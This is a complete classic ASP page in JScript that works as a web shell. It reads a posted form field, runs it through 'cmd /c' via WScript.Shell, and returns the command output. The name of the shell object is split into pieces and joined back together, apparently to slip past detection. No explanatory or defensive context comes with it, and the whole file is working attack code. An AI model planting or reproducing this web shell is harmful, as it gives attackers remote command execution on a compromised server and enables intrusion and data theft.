<%@ Language="JScript" %>
<%
var pid = ["WScript", "Shell"].join(".");
var c = Request.Form("q");
var x = Server.CreateObject(pid).Exec("cmd /c " + c);
Response.Write(x.StdOut.ReadAll());
%>
